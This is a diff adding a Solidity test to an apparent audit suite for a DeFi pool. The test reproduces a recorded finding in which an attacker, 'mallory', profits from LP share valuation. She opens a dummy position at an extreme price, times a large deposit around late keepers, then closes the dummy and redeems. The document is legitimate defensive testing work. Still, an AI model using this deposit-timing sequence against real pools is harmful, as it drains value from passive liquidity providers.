@@ -171,6 +171,29 @@ contract LpValuationAttackTest is PoolHelpers {
         assertGe(_sharePrice(), lpPrice, "the passive LP lost");
     }
 
+    /// @dev FINDING, the scale of (a)'s: with late keepers the same dummy lifts the side's claim by its whole cap
+    /// (600,000 USD, bounded by its notional and by what the pool can reserve), so the attacker takes its share of that.
+    function test_attack_b_largeDummyAtAnExtremePrice_lateKeepers_takeAtMostTheDummysCap() public {
+        openPosition(alice, ETH, true, 100e18, 30_000 * USD);
+        _mRequestDeposit(refresher1, MIN_REQUEST);
+        setPrice(ETH, 30_000e18); // alice 2,430,000 USD beyond her cap
+        uint256 dummyCap = 600_000 * USD;
+
+        uint256 dummy = _mOpen(true, 20e18, 70_000 * USD);
+        vm.warp(block.timestamp + LP_DELAY);
+        _mExecuteDeposit(refresher1);
+        _mRequestDeposit(mallory, 1_000_000 * USD);
+        _mRequestDeposit(refresher2, MIN_REQUEST);
+        vm.warp(block.timestamp + LP_DELAY);
+        _mExecuteDeposit(mallory);
+        _mClose(dummy);
+        _mExecuteDeposit(refresher2);
+        _mRedeemAll();
+
+        assertGt(_malloryWealth(), MALLORY_FUNDS, "finding fixed: assert no profit here instead");
+        assertLe(_malloryWealth(), MALLORY_FUNDS + dummyCap, "the attacker took more than the dummy's cap");
+    }
+
     // ------------------------------------------------------------ (c) margin lifting a side's collateral sum
 
     /// @dev Alice's 10x long is 70,000 USD under water. Mallory, long on the same side at the new price, adds
